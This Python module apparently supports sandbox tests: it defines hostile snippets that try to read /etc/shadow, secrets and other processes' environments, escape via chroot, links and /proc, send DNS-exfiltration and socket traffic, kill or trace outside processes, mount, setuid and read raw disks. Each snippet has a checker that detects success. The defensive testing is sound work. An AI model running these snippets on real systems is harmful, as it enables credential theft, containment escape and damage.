"""Hostile programs that try to reach secrets, files, the network, processes, devices and privileges."""

from pathlib import Path

from tests.support.attacks.arena import ENVIRONMENT
from tests.support.attacks.attack import Attack, Observed, reached, secret_shown, written_outside

_SHADOW = "/etc/shadow"
READ = """
def show(path):
    try:
        print(open(path, "rb").read(100_000))
    except Exception as error:
        print(error)
"""
CALL = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
"""
_SOCKETS = """
import socket, time
def send(family, kind, address):
    try:
        with socket.socket(family, kind) as made:
            made.settimeout(1)
            made.connect(address)
            made.send(b"hello")
    except OSError as error:
        print(error)
"""


def _shadow(observed: Observed) -> str:
    try:
        lines = Path(_SHADOW).read_text().split()
    except OSError:
        lines = ["root:"]
    return "password hashes were read" if any(line in observed.output_text for line in lines) else ""


def _environment(observed: Observed) -> str:
    own = any(entry in observed.output_text for entry in observed.arena.own_environment())
    return secret_shown(observed) or ("the environment of this process was read" if own else "")


def _changed(observed: Observed) -> str:
    file = observed.arena.secret_file
    kept = file.exists() and file.stat().st_size and file.stat().st_mode & 0o777 == 0o644
    return "" if kept else "a file outside was changed"


def _listening(observed: Observed) -> str:
    return "it could be reached from outside" if observed.seen.listening else ""


REACHING = (
    Attack("passwords", "read /etc/shadow", f"{READ}\nshow({_SHADOW!r})", _shadow),
    Attack("home folder", "read a file in the user's home", f"{READ}\nshow(HOME_FILE)", secret_shown),
    Attack("file outside", "read a file outside the workspace", f"{READ}\nshow(SECRET_FILE)", secret_shown),
    Attack(
        "links",
        "read the file through symbolic and hard links",
        READ
        + """
import os, tempfile
for folder in (os.getcwd(), tempfile.gettempdir()):
    for number, make in enumerate((os.symlink, os.link)):
        name = os.path.join(folder, f"{MARK}-{number}")
        try:
            make(SECRET_FILE, name)
            show(name)
        except OSError as error:
            print(error)
        finally:
            if os.path.lexists(name):
                os.unlink(name)
""",
        secret_shown,
    ),
    Attack(
        "root of another process",
        "read the file through /proc/<n>/root and /proc/<n>/cwd",
        READ
        + """
import glob
for way in glob.glob("/proc/[0-9]*/root"):
    show(way + SECRET_FILE)
""",
        secret_shown,
    ),
    Attack("own environment", "print os.environ", "import os\nprint(dict(os.environ))", _environment),
    Attack(
        "environment of others",
        "read /proc/<n>/environ of every process, the parent's too",
        READ
        + """
import glob, os
for way in ["/proc/1/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/[0-9]*/environ")]:
    show(way)
""",
        _environment,
    ),
    Attack(
        "format string",
        "reach the environment from a format string",
        f"""
import os
class Innocent:
    def __init__(self): pass
print("{{0.__init__.__globals__[os].environ}}".format(Innocent()))
print("{{0.__class__.__base__}}".format(Innocent()))
for found in object.__subclasses__():
    try:
        print("{{0.__init__.__globals__[environ][{ENVIRONMENT}]}}".format(found))
    except (AttributeError, KeyError, TypeError):
        pass
""",
        secret_shown,
    ),
    Attack(
        "write outside",
        "write a file outside, directly and through a shell",
        CALL
        + """
import os
try:
    open(OUTSIDE, "w").write("x")
except OSError as error:
    print(error)
libc.system(f"echo x > {OUTSIDE}".encode())
""",
        written_outside,
    ),
    Attack(
        "change outside",
        "truncate, delete and change the mode of a file outside",
        """
import os
for change in (lambda: os.chmod(SECRET_FILE, 0), lambda: os.truncate(SECRET_FILE, 0),
               lambda: os.open(SECRET_FILE, os.O_RDONLY | os.O_TRUNC), lambda: os.unlink(SECRET_FILE)):
    try:
        change()
    except OSError as error:
        print(error)
""",
        _changed,
    ),
    Attack("tcp", "connect to a server", f"{_SOCKETS}\nsend(socket.AF_INET, 1, ('127.0.0.1', TCP))", reached),
    Attack("udp", "send a datagram", f"{_SOCKETS}\nsend(socket.AF_INET, 2, ('127.0.0.1', UDP))", reached),
    Attack(
        "dns",
        "smuggle text out in a DNS query",
        _SOCKETS
        + """
query = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x06secret\\x07example\\x00\\x00\\x01\\x00\\x01"
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", UDP))
    socket.getaddrinfo("secret.example", 80)
except OSError as error:
    print(error)
""",
        reached,
    ),
    Attack("unix socket", "connect to a socket file", f"{_SOCKETS}\nsend(socket.AF_UNIX, 1, UNIX)", reached),
    Attack(
        "abstract socket",
        "connect to an abstract socket",
        f"{_SOCKETS}\nsend(socket.AF_UNIX, 1, chr(0) + ABSTRACT)",
        reached,
    ),
    Attack(
        "socket pair",
        "send to a socket file from a pair of datagram sockets",
        """
import socket
one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
one.sendto(b"hello", UNIX + "-datagram")
""",
        reached,
    ),
    Attack(
        "server",
        "open a port for others",
        f"{_SOCKETS}\nserver = socket.create_server(('127.0.0.1', FREE))\ntime.sleep(0.6)",
        _listening,
    ),
    Attack(
        "raw system calls",
        "reach the network through system call numbers of other processor modes",
        CALL
        + """
import socket, struct
address = struct.pack("=H", 2) + struct.pack("!H4B", TCP, 127, 0, 0, 1) + bytes(8)
for make, connect in ((41, 42), (198, 203), (0x40000000 | 41, 0x40000000 | 42)):
    made = libc.syscall(make, 2, 1, 0)
    print(made, ctypes.get_errno(), libc.syscall(connect, made, address, 16))
""",
        reached,
    ),
)


def _disk(observed: Observed) -> str:
    names = [name for name, print_ in observed.arena.disks().items() if print_ in observed.output_text]
    return f"raw disks were read: {', '.join(names)}" if names else ""


def _typed(observed: Observed) -> str:
    return "text reached a terminal outside" if observed.arena.typed() else ""


def _killed(observed: Observed) -> str:
    return "a process outside was ended" if observed.arena.victim_ended() else ""


def _traced(observed: Observed) -> str:
    return "a process outside was traced" if observed.seen.traced else _killed(observed)


def _limited(observed: Observed) -> str:
    limits = Path(f"/proc/{observed.arena.victim}/limits")
    lines = limits.read_text().splitlines() if limits.exists() else []
    changed = any(line.startswith("Max open files") and line.split()[3] == "17" for line in lines)
    return "the limits of a process outside were changed" if changed else ""


def _mounted(observed: Observed) -> str:
    return "a file system was mounted" if observed.arena.unmount() else ""


def _administrator(observed: Observed) -> str:
    return "it had administrator privileges" if observed.seen.administrator else ""


def _root(observed: Observed) -> str:
    return "it ran as root of this host" if observed.seen.root else ""


def _shared(observed: Observed) -> str:
    return "it left shared memory behind" if observed.arena.shared_memory() else ""


INTRUDING = (
    Attack(
        "kill",
        "end a process outside, as it would the parent",
        "import os\nos.kill(VICTIM, 9)",
        _killed,
    ),
    Attack(
        "kill by a handle",
        "let a pipe send the signal",
        """
import fcntl, os, time
reader, writer = os.pipe()
fcntl.fcntl(reader, fcntl.F_SETOWN, VICTIM)
fcntl.fcntl(reader, 10, 9)
fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
os.write(writer, b"x")
time.sleep(0.2)
""",
        _killed,
    ),
    Attack(
        "ptrace",
        "trace a process outside so that it ends with the program",
        f"{CALL}\nimport time\nprint(libc.ptrace(0x4206, VICTIM, None, ctypes.c_void_p(0x100000)))\n"
        "time.sleep(0.5)",
        _traced,
    ),
    Attack(
        "limits of others",
        "change the limits of a process outside",
        "import resource\nresource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (17, 17))",
        _limited,
    ),
    Attack(
        "mount",
        "mount a file system, also in its own namespace",
        f"{CALL}\nlibc.mount(b'none', MOUNT_POINT.encode(), b'tmpfs', 0, None)\nprint(ctypes.get_errno())",
        _mounted,
    ),
    Attack(
        "user namespace",
        "become the administrator of a new namespace",
        f"{CALL}\nimport time\nprint(libc.unshare(0x10020000), ctypes.get_errno())\ntime.sleep(0.4)",
        _administrator,
    ),
    Attack(
        "chroot",
        "leave through a nested root folder",
        READ
        + """
import os, tempfile
folder = tempfile.mkdtemp()
handle = os.open("/", os.O_RDONLY)
os.chroot(folder)
os.fchdir(handle)
os.chroot(".")
show(SECRET_FILE)
""",
        secret_shown,
    ),
    Attack("setuid", "become root", "import os, time\nos.setuid(0)\ntime.sleep(0.4)", _root),
    Attack(
        "disks",
        "read the raw disks",
        """
import hashlib, os
for name in [*(f"{kind}{letter}" for kind in ("sd", "vd", "xvd") for letter in "abcd"), "nvme0n1", "loop0"]:
    try:
        with open(f"/dev/{name}", "rb") as disk:
            print(hashlib.sha256(disk.read(4096)).hexdigest())
    except OSError as error:
        print(error)
""",
        _disk,
    ),
    Attack("terminal", "write to the user's terminal", "open(TERMINAL, 'w').write('hello')", _typed),
    Attack(
        "shared memory",
        "leave shared memory behind that outlives it",
        f"{CALL}\nprint(libc.shmget(SHARED_KEY, 4096, 0o1666), ctypes.get_errno())",
        _shared,
    ),
)
